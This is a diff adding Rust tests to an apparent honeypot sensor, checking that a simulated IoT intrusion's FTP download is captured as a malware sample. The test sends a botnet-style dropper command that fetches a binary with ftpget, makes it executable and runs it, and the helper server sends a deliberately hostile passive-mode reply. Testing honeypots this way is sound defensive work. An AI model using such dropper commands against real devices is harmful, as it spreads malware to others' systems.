@@ -499,3 +499,113 @@ fn a_file_being_written_survives_a_crash_of_the_sensor() {
         .count();
     assert_eq!(leftovers, 0, "recovered staging is removed");
 }
+
+/// A loopback FTP server for one passive-mode download: returns its port and, when
+/// the client quits, every command it received.
+fn ftp_server(body: Vec<u8>) -> (u16, std::thread::JoinHandle<Vec<String>>) {
+    use std::io::{BufRead, BufReader, Read, Write};
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let handle = std::thread::spawn(move || {
+        let (control, _) = listener.accept().unwrap();
+        let mut out = control.try_clone().unwrap();
+        let mut lines = BufReader::new(control);
+        out.write_all(b"220-test server\r\n220 ready\r\n").unwrap();
+        let mut commands = Vec::new();
+        let mut data_listener = None;
+        loop {
+            let mut line = String::new();
+            if lines.read_line(&mut line).unwrap() == 0 {
+                break;
+            }
+            let command = line.trim_end().to_string();
+            commands.push(command.clone());
+            let verb = command.split(' ').next().unwrap().to_string();
+            match verb.as_str() {
+                "USER" => out.write_all(b"331 password please\r\n").unwrap(),
+                "PASS" => out.write_all(b"230 in\r\n").unwrap(),
+                "TYPE" => out.write_all(b"200 binary\r\n").unwrap(),
+                "PASV" => {
+                    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+                    let p = l.local_addr().unwrap().port();
+                    // A hostile server may announce another host: the client must
+                    // still connect to the control connection's address.
+                    let reply = format!(
+                        "227 Entering Passive Mode (192,0,2,7,{},{})\r\n",
+                        p >> 8,
+                        p & 0xff
+                    );
+                    out.write_all(reply.as_bytes()).unwrap();
+                    data_listener = Some(l);
+                }
+                "RETR" => {
+                    out.write_all(b"150 here it comes\r\n").unwrap();
+                    let (mut data, _) = data_listener.take().unwrap().accept().unwrap();
+                    data.write_all(&body).unwrap();
+                    drop(data);
+                    out.write_all(b"226 done\r\n").unwrap();
+                }
+                "QUIT" => {
+                    out.write_all(b"221 bye\r\n").unwrap();
+                    break;
+                }
+                _ => out.write_all(b"502 no\r\n").unwrap(),
+            }
+        }
+        let mut rest = Vec::new();
+        let _ = lines.read_to_end(&mut rest);
+        commands
+    });
+    (port, handle)
+}
+
+#[test]
+fn fetching_over_ftp_lands_the_binary_as_a_sample() {
+    let binary = synthetic_elf((1, 1, 40), 9000);
+    let sha: String = Sha256::digest(&binary)
+        .iter()
+        .map(|b| format!("{b:02x}"))
+        .collect();
+    let (port, server) = ftp_server(binary.clone());
+    let config = "profile = \"xiongmai-dvr\"\n\
+                  [fetch]\n\
+                  enabled = true\n\
+                  allow = [\"127.0.0.1/32\"]\n\
+                  timeout = \"10s\"\n";
+    let sensor = Sensor::start_with(config);
+    let mut client = sensor.connect();
+    client.login();
+    client.send(
+        format!(
+            "cd /var; ftpget -u bot -p s3cret -P {port} 127.0.0.1 f bins/f.arm7; chmod 777 f; ./f\r\n"
+        )
+        .as_bytes(),
+    );
+    client.read_until(b"listening tun0", std::time::Duration::from_secs(20));
+    assert_eq!(
+        server.join().unwrap(),
+        [
+            "USER bot",
+            "PASS s3cret",
+            "TYPE I",
+            "PASV",
+            "RETR bins/f.arm7",
+            "QUIT"
+        ]
+    );
+    client.send(b"exit\r\n");
+    let events = sensor.wait_for_events("the session closed", |e| {
+        e.iter().any(|v| v["eventid"] == "cowrie.session.closed")
+    });
+    let file = events
+        .iter()
+        .find(|v| v["eventid"] == "cowrie.session.file_download" && v["destfile"] == "/var/f")
+        .expect("a file_download for /var/f");
+    assert_eq!(
+        file["url"],
+        format!("ftp://bot@127.0.0.1:{port}/bins/f.arm7").as_str()
+    );
+    assert_eq!(file["shasum"], sha.as_str());
+    let stored = sensor.data_dir.path().join("samples").join(&sha);
+    assert_eq!(std::fs::read(stored).unwrap(), binary);
+}
